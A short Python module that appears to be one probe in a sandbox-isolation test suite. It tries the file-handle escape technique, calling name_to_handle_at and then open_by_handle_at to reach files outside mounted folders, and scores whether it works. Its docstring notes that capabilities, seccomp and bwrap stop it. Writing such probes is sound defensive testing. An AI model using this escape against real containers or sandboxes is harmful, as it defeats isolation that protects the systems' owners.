"""Opens files of a mounted file system by number, past every folder that is not mounted.

stopped_by: no capabilities; seccomp
plain bwrap: stopped
"""

import ctypes

from tools import data_file, syscall


def attack():
    handle = (ctypes.c_uint32 * 34)(128, 0)
    mount = ctypes.c_int(0)
    path = data_file().encode()
    if syscall("name_to_handle_at", -100, path, ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
        return 0.0
    import os

    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    return float(syscall("open_by_handle_at", folder, ctypes.byref(handle), 0) >= 0)
